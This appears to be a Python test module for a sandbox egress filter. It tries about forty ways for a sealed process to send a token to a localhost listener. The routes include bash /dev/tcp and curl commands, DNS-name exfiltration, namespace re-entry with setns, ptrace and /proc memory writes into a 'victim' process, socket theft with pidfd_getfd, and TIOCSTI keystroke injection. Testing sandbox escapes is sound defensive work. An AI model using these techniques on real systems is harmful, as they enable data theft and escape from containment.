"""Every way out that we know, as code that tries it: a token is sent, and whoever listens outside has it or not."""

from __future__ import annotations

import contextlib
import ctypes
import encodings.idna  # noqa: F401  # for names, when files may no longer be readable
import errno
import fcntl
import os
import resource
import signal
import socket
import struct
import subprocess
import time
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from freehold.governance.egress.filter import MSG_FASTOPEN
from freehold.governance.egress.routes_convention import send_by_32_bit_calls, send_by_x32_calls
from freehold.governance.egress.routes_multicast import join_groups, join_groups_6, join_source_groups
from freehold.governance.egress.routes_ring import send_by_ring
from freehold.governance.egress.syscalls import syscall

IPPROTO_MPTCP = 262
IPPROTO_SCTP = 132
NETLINK_USERSOCK = 2
ETHERTYPE = 0x88B5  # IEEE 802: for local experiments
VSOCK_PORT = 4711
SLOT_BYTES = 64
LIMIT_BASE = 1 << 40
_TIOCSTI = 0x5412
_CLONE_NEWNET = 0x40000000
_PTRACE_POKEDATA, _PTRACE_ATTACH, _PTRACE_DETACH = 5, 16, 17
_WAIT_ALL = 0x40000000
_SECONDS = 2.0


@dataclass(slots=True)
class Outside:
    """Where a token may be sent to, as `outside.py` says. None: this machine cannot listen there, and why not is in
    `absent`, by name."""

    pid: int
    tcp4: int
    tcp6: int | None
    udp4: int
    udp6: int | None
    unix_stream: str
    unix_datagram: str
    abstract: str
    directory: str
    file: str
    raw: bool
    packet: bool
    vsock: bool
    netlink: int | None
    queue: int | None
    victim_pid: int
    victim_address: int
    victim_socket: int
    absent: dict[str, str] = field(default_factory=dict)


@dataclass(slots=True)
class Inside:
    """What the process that tries was given before it was sealed. slot: of the victim's memory, for this token."""

    outside: Outside
    listeners: dict[str, socket.socket]
    terminal: int | None
    slot: int = 0


class NotHereError(OSError):
    """The machine has nothing to try this with."""


@dataclass(frozen=True, slots=True)
class Route:
    """One way out. send: gets the token out or raises OSError. For a `by_pid` route, the process's number is what
    arrives instead of the token."""

    name: str
    what: str
    send: Callable[[Inside, bytes], None]
    by_pid: bool = False


def _tcp(inside: Inside, token: bytes, *, family: int = socket.AF_INET, protocol: int = 0) -> None:
    port = inside.outside.tcp4 if family == socket.AF_INET else _present(inside, inside.outside.tcp6, "tcp6")
    with socket.socket(family, socket.SOCK_STREAM, protocol) as out:
        out.settimeout(_SECONDS)
        out.connect(("127.0.0.1" if family == socket.AF_INET else "::1", port))
        out.sendall(token)


def _tcp6(inside: Inside, token: bytes) -> None:
    _tcp(inside, token, family=socket.AF_INET6)


def _mptcp(inside: Inside, token: bytes) -> None:
    _tcp(inside, token, protocol=IPPROTO_MPTCP)


def _sctp(inside: Inside, token: bytes) -> None:
    _tcp(inside, token, protocol=IPPROTO_SCTP)


def _fast_open(inside: Inside, token: bytes) -> None:
    with socket.socket() as out:
        out.sendto(token, MSG_FASTOPEN, ("127.0.0.1", inside.outside.tcp4))


def _udp4(inside: Inside, token: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(token, ("127.0.0.1", inside.outside.udp4))


def _udp6(inside: Inside, token: bytes) -> None:
    port = _present(inside, inside.outside.udp6, "udp6")
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as out:
        out.sendto(token, ("::1", port))


def _udp_write(inside: Inside, token: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.connect(("127.0.0.1", inside.outside.udp4))
        os.write(out.fileno(), token)


def _udp_many(inside: Inside, token: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendmsg([token], [], 0, ("127.0.0.1", inside.outside.udp4))


def _raw(inside: Inside, token: bytes) -> None:
    if not inside.outside.raw:
        raise NotHereError(errno.EPERM, inside.outside.absent.get("raw", "raw sockets cannot be listened at"))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
        out.sendto(_echo(token), ("127.0.0.1", 0))


def _ping(inside: Inside, token: bytes) -> None:
    if not inside.outside.raw:
        raise NotHereError(errno.EPERM, inside.outside.absent.get("raw", "raw sockets cannot be listened at"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as out:
        out.sendto(_echo(token), ("127.0.0.1", 0))


def _echo(token: bytes) -> bytes:
    body = token + bytes(len(token) % 2)
    words = struct.unpack(f"!{4 + len(body) // 2}H", struct.pack("!BBHHH", 8, 0, 0, 1, 1) + body)
    total = sum(words)
    total = (total & 0xFFFF) + (total >> 16)
    checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    return struct.pack("!BBHHH", 8, 0, checksum, 1, 1) + body


def _packet(inside: Inside, token: bytes) -> None:
    if not inside.outside.packet:
        raise NotHereError(errno.EPERM, inside.outside.absent.get("packet", "packets cannot be listened for"))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE)) as out:
        out.bind(("lo", ETHERTYPE))
        out.send(bytes(12) + struct.pack("!H", ETHERTYPE) + token.ljust(50, b"\0"))


def _vsock(inside: Inside, token: bytes) -> None:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as out:
        if not inside.outside.vsock:
            why = inside.outside.absent.get("vsock", "nothing listens")
            raise NotHereError(errno.ENODEV, f"such a socket can be made, but {why}")
        out.settimeout(_SECONDS)
        out.connect((1, VSOCK_PORT))
        out.sendall(token)


def _netlink(inside: Inside, token: bytes) -> None:
    to = _present(inside, inside.outside.netlink, "netlink")
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_USERSOCK) as out:
        out.bind((0, 0))
        body = struct.pack("=IHHII", 16 + len(token), 0x11, 0, 1, out.getsockname()[0]) + token
        out.sendto(body, (to, 0))


def _unix_stream(inside: Inside, token: bytes) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
        out.connect(inside.outside.unix_stream)
        out.sendall(token)


def _unix_datagram(inside: Inside, token: bytes) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as out:
        out.sendto(token, inside.outside.unix_datagram)


def _unix_pair(inside: Inside, token: bytes) -> None:
    near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with near, far:
        near.sendmsg([token], [], 0, inside.outside.unix_datagram)


def _abstract(inside: Inside, token: bytes) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
        out.connect("\0" + inside.outside.abstract)
        out.sendall(token)


def _ring(inside: Inside, token: bytes) -> None:
    send_by_ring(inside.outside.tcp4, token)


def _listener(inside: Inside, token: bytes) -> None:
    _reconnect(inside, inside.listeners["unspecified"], token)


def _listener_fast_open(inside: Inside, token: bytes) -> None:
    listener = inside.listeners["shut"]
    listener.shutdown(socket.SHUT_RD)  # it listens no more, and is free for another address
    listener.sendmsg([token], [], MSG_FASTOPEN, ("127.0.0.1", inside.outside.tcp4))


def _accepted(inside: Inside, token: bytes) -> None:
    listener = inside.listeners["accepting"]
    listener.settimeout(_SECONDS)
    accepted, _ = listener.accept()
    with accepted:
        _reconnect(inside, accepted, token)


def _reconnect(inside: Inside, used: socket.socket, token: bytes) -> None:
    unspecified = struct.pack("=H14x", socket.AF_UNSPEC)
    syscall("connect", used.fileno(), unspecified, len(unspecified))
    used.settimeout(_SECONDS)
    used.connect(("127.0.0.1", inside.outside.tcp4))
    used.sendall(token)


def _groups(inside: Inside, token: bytes) -> None:
    join_groups(inside.listeners["groups"], token)


def _source_groups(inside: Inside, token: bytes) -> None:
    join_source_groups(inside.listeners["source groups"], token)


def _groups_6(inside: Inside, token: bytes) -> None:
    join_groups_6(inside.listeners.get("groups 6"), token)


def _child(inside: Inside, token: bytes) -> None:
    script = f"printf {token.decode()} > /dev/tcp/127.0.0.1/{inside.outside.tcp4}"
    _run("bash", "-c", script)


def _curl(inside: Inside, token: bytes) -> None:
    _run("curl", "-sS", "--noproxy", "*", "-m", "2", f"http://127.0.0.1:{inside.outside.tcp4}/{token.decode()}")


def _run(*words: str) -> None:
    try:
        done = subprocess.run(words, capture_output=True, text=True, timeout=4)
    except FileNotFoundError:
        raise NotHereError(errno.ENOENT, f"there is no {words[0]}") from None
    if done.returncode:
        told = done.stderr.strip().splitlines()
        raise OSError(errno.EIO, f"{words[0]} ended with status {done.returncode}: {told[-1] if told else ''}")


def _urllib(inside: Inside, token: bytes) -> None:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(f"http://127.0.0.1:{inside.outside.tcp4}/{token.decode()}", timeout=_SECONDS):
        pass


def _ctypes(inside: Inside, token: bytes) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    out = _checked(libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0))
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", inside.outside.tcp4, b"\x7f\0\0\1")
    _checked(libc.connect(out, address, len(address)))
    _checked(libc.send(out, token, len(token), 0))


def _checked(result: int) -> int:
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result


def _resolver(inside: Inside, token: bytes) -> None:
    """libc's own resolver, told to ask the listener's address."""
    try:
        libc = ctypes.CDLL("libc.so.6")
        state = libc.__res_state
        libc.__res_init()
    except (OSError, AttributeError):
        raise NotHereError(errno.ENOSYS, "libc's resolver cannot be pointed elsewhere") from None
    state.restype = ctypes.c_void_p
    # struct __res_state: retrans, retry, options, nscount, then the first server's address.
    base = state()
    ctypes.memmove(base, struct.pack("=ii", 1, 1), 8)
    server = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", inside.outside.udp4, b"\x7f\0\0\1")
    ctypes.memmove(base + 16, struct.pack("=i", 1) + server, 4 + len(server))
    with contextlib.suppress(socket.gaierror):  # there is no such name; that it was asked for is what counts
        socket.getaddrinfo(f"{token.decode()}.invalid", 80)


def _setns(inside: Inside, token: bytes) -> None:
    namespace = os.open(f"/proc/{inside.outside.pid}/ns/net", os.O_RDONLY)
    syscall("setns", namespace, _CLONE_NEWNET)
    _tcp(inside, token)


def _stolen(inside: Inside, token: bytes) -> None:
    victim = syscall("pidfd_open", inside.outside.victim_pid, 0)
    os.write(syscall("pidfd_getfd", victim, inside.outside.victim_socket, 0), token)


def _slot(inside: Inside) -> int:
    return inside.outside.victim_address + inside.slot * SLOT_BYTES


def _memory_file(inside: Inside, token: bytes) -> None:
    with open(f"/proc/{inside.outside.victim_pid}/mem", "r+b", buffering=0) as memory:
        memory.seek(_slot(inside))
        memory.write(token)
    _wait_for_victim()


def _memory_call(inside: Inside, token: bytes) -> None:
    here = ctypes.create_string_buffer(token, len(token))
    near = struct.pack("=QQ", ctypes.addressof(here), len(token))
    far = struct.pack("=QQ", _slot(inside), len(token))
    syscall("process_vm_writev", inside.outside.victim_pid, near, 1, far, 1, 0)
    _wait_for_victim()


def _ptrace(inside: Inside, token: bytes) -> None:
    victim = inside.outside.victim_pid
    syscall("ptrace", _PTRACE_ATTACH, victim, 0, 0)
    os.waitpid(victim, _WAIT_ALL)
    padded = token.ljust(-(-len(token) // 8) * 8, b"\0")
    for place in range(0, len(padded), 8):
        (word,) = struct.unpack("=q", padded[place : place + 8])
        syscall("ptrace", _PTRACE_POKEDATA, victim, _slot(inside) + place, word)
    syscall("ptrace", _PTRACE_DETACH, victim, 0, 0)
    _wait_for_victim()


def _signal(inside: Inside, token: bytes) -> None:
    os.kill(inside.outside.victim_pid, signal.SIGUSR1)


def _limit(inside: Inside, token: bytes) -> None:
    victim = inside.outside.victim_pid
    _, hard = resource.prlimit(victim, resource.RLIMIT_FSIZE)
    resource.prlimit(victim, resource.RLIMIT_FSIZE, (LIMIT_BASE + os.getpid(), hard))
    _wait_for_victim()


def _queue(inside: Inside, token: bytes) -> None:
    queue = _present(inside, inside.outside.queue, "queue")
    libc = ctypes.CDLL(None, use_errno=True)
    _checked(libc.msgsnd(queue, struct.pack("=q", 1) + token, len(token), 0o4000))


def _terminal(inside: Inside, token: bytes) -> None:
    if inside.terminal is None:
        raise NotHereError(errno.ENOTTY, "there is no terminal")
    for byte in token + b"\n":
        fcntl.ioctl(inside.terminal, _TIOCSTI, bytes([byte]))


def _file(inside: Inside, token: bytes) -> None:
    Path(inside.outside.directory, token.decode()).write_bytes(token)


def _attribute(inside: Inside, token: bytes) -> None:
    os.setxattr(inside.outside.file, f"user.{token.decode()}", b"1")


def _32_bit(inside: Inside, token: bytes) -> None:
    send_by_32_bit_calls(inside.outside.tcp4, token)


def _x32(inside: Inside, token: bytes) -> None:
    send_by_x32_calls(inside.outside.tcp4, token)


def _present(inside: Inside, where: Any, name: str) -> int:
    if where is None:
        raise NotHereError(errno.ENOSYS, inside.outside.absent.get(name, f"nothing can listen at {name}"))
    return int(where)


def _wait_for_victim() -> None:
    """Long enough that the process outside has looked at its memory."""
    time.sleep(0.05)


ROUTES: tuple[Route, ...] = (
    Route("tcp4", "TCP over IPv4", _tcp),
    Route("tcp6", "TCP over IPv6", _tcp6),
    Route("udp4", "UDP over IPv4, sendto", _udp4),
    Route("udp6", "UDP over IPv6, sendto", _udp6),
    Route("udp-write", "UDP, connect and write", _udp_write),
    Route("udp-sendmsg", "UDP, sendmsg with an address", _udp_many),
    Route("fast-open", "TCP Fast Open, data in the first packet", _fast_open),
    Route("mptcp", "MPTCP", _mptcp),
    Route("sctp", "SCTP", _sctp),
    Route("io-uring", "io_uring: socket, connect and send by the ring", _ring),
    Route("raw-icmp", "raw ICMP", _raw),
    Route("ping-icmp", "ICMP by a ping socket", _ping),
    Route("packet", "AF_PACKET, a frame of its own", _packet),
    Route("vsock", "vsock, to the hypervisor's side", _vsock),
    Route("netlink", "netlink, to another process", _netlink),
    Route("unix-stream", "Unix socket of another program, by its path", _unix_stream),
    Route("unix-datagram", "Unix datagram to another program, by its path", _unix_datagram),
    Route("unix-pair", "Unix datagram by one end of a pair of its own", _unix_pair),
    Route("unix-abstract", "Unix socket of another program, abstract", _abstract),
    Route("listener-unspec", "the inherited listener: AF_UNSPEC, then connect", _listener),
    Route("listener-fast-open", "the inherited listener: shutdown, then Fast Open", _listener_fast_open),
    Route("accepted-unspec", "an accepted connection: AF_UNSPEC, then connect", _accepted),
    Route("groups", "the inherited listener joins multicast groups", _groups),
    Route("source-groups", "the same, groups with a source", _source_groups),
    Route("groups-ipv6", "an IPv6 listener joins multicast groups", _groups_6),
    Route("urllib", "urllib, as a Python plug-in would", _urllib),
    Route("ctypes", "libc's calls by ctypes", _ctypes),
    Route("child", "a child process (bash)", _child),
    Route("curl", "a child process (curl)", _curl),
    Route("dns", "a name in a DNS question, by libc's resolver", _resolver),
    Route("calls-32-bit", "system calls of 32 bits (int 0x80)", _32_bit),
    Route("calls-x32", "system calls of x32", _x32),
    Route("setns", "back into the outer network namespace (setns)", _setns),
    Route("pidfd-getfd", "another process's socket (pidfd_getfd)", _stolen),
    Route("proc-mem", "another process's memory (/proc/PID/mem)", _memory_file),
    Route("vm-writev", "another process's memory (process_vm_writev)", _memory_call),
    Route("ptrace", "another process's memory (ptrace)", _ptrace),
    Route("signal", "a signal to another process", _signal, by_pid=True),
    Route("limit", "a limit of another process (prlimit)", _limit, by_pid=True),
    Route("sysv-queue", "a System V message queue", _queue),
    Route("terminal", "typing into the terminal (TIOCSTI)", _terminal),
    Route("file", "a file where another program looks", _file),
    Route("attribute", "an attribute of another program's file", _attribute),
)
